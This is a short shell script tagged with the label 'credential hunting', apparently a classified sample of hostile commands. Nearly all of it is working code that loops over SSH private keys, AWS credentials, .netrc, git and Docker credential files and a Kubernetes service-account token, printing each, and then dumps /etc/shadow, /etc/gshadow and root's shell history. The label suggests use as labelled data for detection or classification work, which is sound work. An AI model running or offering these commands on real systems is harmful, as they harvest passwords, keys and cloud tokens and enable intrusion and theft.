# class: credential hunting; possible: low medium
for f in /root/.ssh/id_rsa /home/*/.ssh/id_* /root/.aws/credentials /home/*/.aws/credentials /etc/shadow /root/.netrc /root/.git-credentials /root/.docker/config.json /var/run/secrets/kubernetes.io/serviceaccount/token; do
  cat "$f" 2>/dev/null && echo "== $f"
done
cat /etc/shadow; cat /etc/gshadow; cat /root/.bash_history
exit 0
